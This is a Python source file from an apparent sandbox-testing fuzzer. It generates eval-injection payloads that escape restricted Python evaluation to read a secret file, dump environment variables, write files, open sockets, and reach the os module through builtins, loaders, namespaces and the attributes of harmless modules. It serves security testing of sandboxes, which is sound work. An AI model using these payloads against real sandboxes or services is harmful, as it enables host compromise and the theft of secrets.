"""Code that takes what a language offers to everybody: builtins, imports, modules of modules."""

from collections.abc import Iterator

from capfuzz.attacks.evaluators import SECRET_FILE
from capfuzz.attacks.techniques.eval_parts import (
    CANARY,
    CONNECT,
    ENVIRON,
    READ,
    WRITE,
    evaluated,
    of_builtins,
    of_os,
    statements,
    valued,
)

_INJECTION = "https://cwe.mitre.org/data/definitions/95.html"


@evaluated(
    "eval-plain",
    group="outside-eval",
    cwe="CWE-95",
    platforms=("python",),
    needs="evaluates code with the builtins of the host",
    refs=(_INJECTION,),
)
def plain() -> Iterator[str]:
    """Open, import and evaluate, as any program does."""
    yield f"open{READ}"
    yield f"__import__('os'){ENVIRON}"
    yield f"open{WRITE}"
    yield f"__import__('socket').{CONNECT}"
    for run in ("eval", "exec"):
        yield f'{run}("open{WRITE}")'
    yield f'eval("open{READ}")'
    yield f"eval(compile(\"open{READ}\", '', 'eval'))"
    yield valued(f"open{READ}")
    yield statements(f"with open('{SECRET_FILE}') as file:", "    result = file.read()")


@evaluated(
    "eval-namespace",
    group="namespaces",
    cwe="CWE-913",
    platforms=("python",),
    needs="leaves its own namespace, or what Python adds to it, within reach",
    refs=("https://docs.python.org/3/library/functions.html#eval",),
)
def namespace() -> Iterator[str]:
    """Name what Python puts into every namespace, and ask for the namespace itself."""
    yield f"__builtins__['open']{READ}"
    yield from of_builtins("__builtins__")
    yield f"globals(){CANARY}"
    for names in ("globals()", "vars()", "locals()"):
        yield f"{names}['__builtins__']['open']{READ}"
    yield f"__loader__.get_data('{SECRET_FILE}')"
    yield f"__spec__.loader.get_data('{SECRET_FILE}')"
    yield f"__loader__.load_module('os'){ENVIRON}"
    yield f"[globals(){CANARY} for x in [0]][0]"


@evaluated(
    "eval-import",
    group="imports",
    cwe="CWE-184",
    platforms=("python",),
    needs="refuses some forms of import and not all, or judges names of modules by their beginning",
    refs=(_INJECTION,),
)
def imports() -> Iterator[str]:
    """Import in every form: under another name, a part, a submodule, from inside a function."""
    yield valued(f"os{ENVIRON}", "import os")
    yield valued(f"harmless{ENVIRON}", "import os as harmless")
    yield valued(f"environ{ENVIRON.removeprefix('.environ')}", "from os import environ")
    yield valued(f"o{READ}", "from io import open as o")
    yield valued(f"os{ENVIRON}", "import math, os")
    yield valued(f"os{ENVIRON}", "from os import *", "import os.path")
    yield statements("def f():", "    import os", f"    return os{ENVIRON}", "result = f()")
    yield valued(f"builtins.open{READ}", "import builtins")
    yield valued(f"importlib.import_module('os'){ENVIRON}", "import importlib")
    yield valued(f"posixpath.os{ENVIRON}", "import posixpath")
    yield valued(f"path.os{ENVIRON}", "from os import path")
    yield valued(f"os{ENVIRON}", "import os.path as path", "from os.path import os")
    yield valued(f"socket.{CONNECT}", "import socket")
    yield valued(f"pathlib.Path('{SECRET_FILE}').read_text()", "import pathlib")


# Modules that are handed in as harmless, each with an attribute that is the module os or sys.
_WAYS = {
    "path": ("os", "sys.modules['os']", "genericpath.os"),
    "os": ("path.os",),
    "random": ("_os", "_sys.modules['os']"),
    "json": ("codecs.sys.modules['os']", "decoder.scanner.re.enum.sys.modules['os']"),
    "re": ("enum.sys.modules['os']", "functools.GenericAlias"),
    "datetime": ("sys.modules['os']",),
    "statistics": ("sys.modules['os']", "random._os"),
    "string": ("_re.enum.sys.modules['os']",),
    "collections": ("_sys.modules['os']", "abc.sys.modules['os']"),
    "queue": ("threading._os", "threading._sys.modules['os']"),
    "itertools": ("__loader__.load_module('sys').modules['os']",),
    "math": ("__spec__.loader.create_module.__globals__['sys'].modules['os']",),
    "time": ("__loader__.load_module('sys').modules['os']",),
    "functools": ("recursive_repr.__globals__['sys'].modules['os']",),
    "operator": ("__loader__.get_data.__globals__['sys'].modules['os']",),
    "decimal": ("_contextvars.__loader__.load_module('sys').modules['os']",),
    "textwrap": ("re.enum.sys.modules['os']",),
    "uuid": ("os", "sys.modules['os']"),
    "base64": ("re.enum.sys.modules['os']",),
    "hashlib": ("__loader__.get_data.__globals__['sys'].modules['os']",),
    "calendar": ("sys.modules['os']", "datetime.sys.modules['os']"),
    "copy": ("weakref.sys.modules['os']",),
    "typing": ("sys.modules['os']",),
    "dataclasses": ("sys.modules['os']",),
    "enum": ("sys.modules['os']",),
    "np": ("os", "sys.modules['os']", "f2py.os", "lib.format.os"),
    "numpy": ("os", "sys.modules['os']", "f2py.os", "testing.os"),
    "pd": ("io.common.os", "compat.sys.modules['os']"),
    "sp": ("os", "sys.modules['os']"),
    "self": ("os",),
}


@evaluated(
    "eval-module-attributes",
    group="modules",
    cwe="CWE-94",
    platforms=("python",),
    needs="hands modules to the code, and what they have imported with them",
    refs=("CVE-2026-32640", "https://cwe.mitre.org/data/definitions/94.html"),
)
def module_attributes() -> Iterator[str]:
    """Walk from a harmless module to what it has imported itself."""
    for module, ways in _WAYS.items():
        for index, way in enumerate(ways):
            ends = list(of_os(f"{module}.{way}"))
            yield from ends if index == 0 and module in {"path", "random"} else ends[:1]


@evaluated(
    "eval-imported-attributes",
    group="imported-modules",
    cwe="CWE-94",
    platforms=("python",),
    needs="lets harmless modules be imported, and what they have imported with them",
    refs=("https://cwe.mitre.org/data/definitions/94.html",),
)
def imported_attributes() -> Iterator[str]:
    """Import a harmless module and walk to what it has imported itself."""
    for module, ways in _WAYS.items():
        if module in {"np", "pd", "sp", "self", "path", "os"}:
            continue
        for way in ways:
            yield valued(f"{module}.{way}{ENVIRON}", f"import {module}")
        first, _, rest = ways[0].partition(".")
        walked = f"found.{rest}" if rest else "found"
        yield valued(f"{walked}{ENVIRON}", f"from {module} import {first} as found")
